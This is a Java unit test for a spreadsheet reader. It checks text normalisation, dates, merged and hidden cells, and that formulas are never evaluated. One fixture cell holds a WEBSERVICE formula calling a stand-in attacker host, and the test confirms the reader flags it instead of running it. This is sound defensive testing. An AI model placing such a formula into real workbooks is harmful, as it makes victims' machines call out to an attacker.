package vn.dondoc.source;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.function.Consumer;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class WorkbooksTest {
    @TempDir
    private Path folder;

    @Test
    void textsAreOfOneSpellingWithoutWhatCannotBeSeen() throws IOException {
        Workbook.Sheet sheet = sheet(s -> {
            cell(s, 0, 0).setCellValue("Sở\u00a0 Xa\u0302y\u200b dựng\u202e ");
            cell(s, 0, 1).setCellValue("dòng một \r\n\n  dòng hai");
            cell(s, 0, 2).setCellValue("a😀b");
        });
        assertThat(texts(sheet, 0)).containsExactly("Sở Xây dựng", "dòng một\ndòng hai", "ab");
    }

    @Test
    void numbersAreAsTyped() throws IOException {
        Workbook.Sheet sheet = sheet(s -> {
            cell(s, 0, 0).setCellValue(12);
            cell(s, 0, 1).setCellValue(1.1);
            cell(s, 0, 2).setCellValue(0.1 + 0.2);
        });
        assertThat(texts(sheet, 0)).containsExactly("12", "1.1", "0.3");
    }

    @Test
    void aDateIsOneOnlyWhereTheCellShowsOne() throws IOException {
        Workbook.Sheet sheet = sheet(s -> {
            Cell date = cell(s, 0, 0);
            date.setCellValue(LocalDate.of(2026, 6, 30));
            var style = s.getWorkbook().createCellStyle();
            style.setDataFormat(s.getWorkbook().createDataFormat().getFormat("dd/mm/yyyy"));
            date.setCellStyle(style);
            cell(s, 0, 1).setCellValue(46203);
        });
        assertThat(sheet.rows().get(0).cell(0)).satisfies(c -> {
            assertThat(c.date()).isEqualTo(LocalDate.of(2026, 6, 30));
            assertThat(c.text()).isEqualTo("30/6/2026");
        });
        assertThat(sheet.rows().get(0).cell(1).date()).isNull();
    }

    @Test
    void aFormulaIsItsLastResultAndIsNeverComputed() throws IOException {
        Workbook.Sheet sheet = sheet(s -> {
            Cell computed = cell(s, 0, 0);
            computed.setCellFormula("1+1");
            computed.setCellValue(7);
            cell(s, 0, 1).setCellFormula("WEBSERVICE(\"http://attacker.example\")");
            Cell broken = cell(s, 0, 2);
            broken.setCellFormula("A9");
            broken.setCellErrorValue(org.apache.poi.ss.usermodel.FormulaError.REF.getCode());
            cell(s, 0, 3).setCellValue("=1+1");
        });
        Workbook.Row row = sheet.rows().get(0);
        assertThat(row.cell(0).text()).isEqualTo("7");
        assertThat(row.cell(1).flaw()).isEqualTo(WorkbookCell.Flaw.NOT_COMPUTED);
        assertThat(row.cell(2).flaw()).isEqualTo(WorkbookCell.Flaw.ERROR);
        assertThat(row.cell(3).text()).isEqualTo("=1+1");
        assertThat(row.cell(3).flaw()).isNull();
    }

    @Test
    void whatIsMergedDownwardsCountsForEachRowAndSidewaysStaysOneCell() throws IOException {
        Workbook.Sheet sheet = sheet(s -> {
            cell(s, 0, 0).setCellValue("Tiêu đề");
            s.addMergedRegion(new CellRangeAddress(0, 0, 0, 3));
            cell(s, 1, 1).setCellValue("Sở Y tế");
            for (int i = 1; i <= 3; i++) cell(s, i, 0).setCellValue("việc " + i);
            s.addMergedRegion(new CellRangeAddress(1, 2, 1, 2));
        });
        assertThat(sheet.rows().get(0).cells()).hasSize(1);
        assertThat(texts(sheet, 2)).containsExactly("việc 2", "Sở Y tế");
        assertThat(sheet.rows().get(2).cell(1).continued()).isTrue();
        assertThat(sheet.rows().get(1).cell(1).continued()).isFalse();
        assertThat(texts(sheet, 3)).containsExactly("việc 3");
    }

    @Test
    void hiddenRowsAndColumnsAreReadAndSaidToBeHidden() throws IOException {
        Workbook.Sheet sheet = sheet(s -> {
            cell(s, 4, 0).setCellValue("việc");
            s.getRow(4).setZeroHeight(true);
            s.setColumnHidden(2, true);
        });
        assertThat(sheet.rows()).singleElement().satisfies(row -> {
            assertThat(row.number()).isEqualTo(5);
            assertThat(row.hidden()).isTrue();
        });
        assertThat(sheet.hiddenColumns()).containsExactly(2);
    }

    @Test
    void hiddenSheetsAreLeftOut() throws IOException {
        Path file = file(book -> {
            book.createSheet("Danh mục").createRow(0).createCell(0).setCellValue("một");
            book.createSheet("Kho").createRow(0).createCell(0).setCellValue("hai");
            book.setSheetHidden(1, true);
        });
        assertThat(Workbooks.open("C:\\tệp\\danh mục.xlsx", file)).satisfies(book -> {
            assertThat(book.name()).isEqualTo("danh mục.xlsx");
            assertThat(book.sheets()).extracting(Workbook.Sheet::name).containsExactly("Danh mục");
        });
    }

    @Test
    void aMillionEmptyRowsAreNothing() throws IOException {
        Workbook.Sheet sheet = sheet(s -> {
            cell(s, 0, 0).setCellValue("việc");
            for (int i = 1; i < 20_000; i++) s.createRow(i).createCell(0);
        });
        assertThat(sheet.rows()).hasSize(1);
    }

    private static Cell cell(XSSFSheet sheet, int row, int column) {
        Row r = sheet.getRow(row) == null ? sheet.createRow(row) : sheet.getRow(row);
        return r.createCell(column);
    }

    private static java.util.List<String> texts(Workbook.Sheet sheet, int row) {
        return sheet.rows().get(row).cells().stream().map(WorkbookCell::text).toList();
    }

    private Workbook.Sheet sheet(Consumer<XSSFSheet> content) throws IOException {
        Path file = file(book -> content.accept(book.createSheet("Sheet1")));
        return Workbooks.open("a.xlsx", file).sheets().get(0);
    }

    private Path file(Consumer<XSSFWorkbook> content) throws IOException {
        Path file = folder.resolve("a.xlsx");
        try (var book = new XSSFWorkbook();
                OutputStream out = Files.newOutputStream(file)) {
            content.accept(book);
            book.write(out);
        }
        return file;
    }
}
